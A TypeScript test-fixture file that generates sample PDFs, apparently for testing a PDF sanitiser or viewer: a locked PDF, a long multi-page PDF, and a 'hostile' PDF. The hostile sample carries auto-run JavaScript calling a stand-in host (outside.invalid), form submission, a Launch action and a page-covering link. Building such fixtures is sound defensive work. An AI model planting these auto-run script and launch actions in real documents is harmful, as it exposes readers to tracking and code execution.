/** PDFs as strangers would send them, written byte by byte: one that wants to run and call out, one that is locked. */

/** @param bodies of objects 1, 2, 3 …; object 1 is the catalogue. @param trailer entries beside size and root. */
function written(bodies: readonly string[], trailer = ''): Buffer {
  let out = '%PDF-1.4\n'
  const places = bodies.map((body, at) => {
    const place = out.length
    out += `${at + 1} 0 obj\n${body}\nendobj\n`
    return place
  })
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = bodies.length + 1
  const start = out.length
  out += `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\n`
  return Buffer.from(`${out}startxref\n${start}\n%%EOF\n`, 'latin1')
}

const stream = (text: string, entries = ''): string =>
  `<< /Length ${text.length} ${entries} >>\nstream\n${text}\nendstream`

const sheet = (contents: string, more = ''): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${contents} /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >> ${more} >>`

const script = `this.getURL\\("https://outside.invalid/run"\\); app.alert\\("run"\\)`
const run = `<< /S /JavaScript /JS (${script}) >>`
const away = (kind: string): string =>
  kind === 'URI'
    ? '<< /S /URI /URI (https://outside.invalid/link) >>'
    : `<< /S /${kind} /F << /FS /URL /F (https://outside.invalid/${kind}) >> >>`

/**
 * One page that says `words`. It wants to run a script when it is opened, drawn and closed, to send a form, to fetch a picture and a
 * font from elsewhere, and nearly all of it is covered by a link. Its second font is embedded nowhere and is a Chinese one.
 */
export function hostilePdf(words: string): Buffer {
  const text = `BT /F1 24 Tf 72 700 Td (${words}) Tj ET BT /F2 24 Tf 72 640 Td <4E2D6587> Tj ET`
  return written([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${run} /AA << /WC ${run} /WP ${run} >> /Names << /JavaScript << /Names [(a) ${run}] >> >> /AcroForm << /Fields [8 0 R] /XFA 9 0 R >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    sheet('4 0 R', `/Annots [7 0 R 8 0 R] /AA << /O ${away('SubmitForm')} /C ${run} >>`),
    stream(text),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Font /Subtype /Type0 /BaseFont /SimSun /Encoding /UniGB-UCS2-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /SimSun /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /FontDescriptor << /Type /FontDescriptor /FontName /SimSun /Flags 4 >> >>] >>',
    `<< /Type /Annot /Subtype /Link /Rect [10 10 600 780] /Border [0 0 3] /C [1 0 0] /A ${away('URI')} >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (x) /Rect [72 500 300 540] /AA << /K ${run} /F ${run} /C ${run} >> /A ${away('Launch')} >>`,
    stream(
      '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform><pageSet/></subform></template></xdp:xdp>',
    ),
  ])
}

/** A PDF whose password nobody knows. */
export function lockedPdf(): Buffer {
  const noise = (sign: string): string => `<${sign.repeat(64)}>`
  return written(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      sheet('4 0 R'),
      stream('BT ET'),
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ],
    `/ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O ${noise('a')} /U ${noise('b')} >>`,
  )
}

/** @param pages how many, each of which says its number. @param padding bytes of each, so that the file is long. */
export function longPdf(pages: number, padding: number): Buffer {
  const perBranch = 20
  const branches = Math.ceil(pages / perBranch)
  const firstBranch = 7
  const firstPage = firstBranch + branches
  const kids = (from: number, count: number, step = 1): string =>
    Array.from({ length: count }, (_, at) => `${from + step * at} 0 R`).join(' ')
  const bodies = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids(firstBranch, branches)}] /Count ${pages} >>`,
    'null',
    'null',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  for (let at = 0; at < branches; at++) {
    const count = Math.min(perBranch, pages - at * perBranch)
    const children = kids(firstPage + 2 * at * perBranch, count, 2)
    bodies.push(`<< /Type /Pages /Parent 2 0 R /Kids [${children}] /Count ${count} >>`)
  }
  for (let at = 0; at < pages; at++) {
    bodies.push(sheet(`${firstPage + 2 * at + 1} 0 R`))
    bodies.push(stream(`BT /F1 40 Tf 72 700 Td (Sheet ${at + 1}) Tj ET\n%${'x'.repeat(padding)}\n`))
  }
  return written(bodies)
}
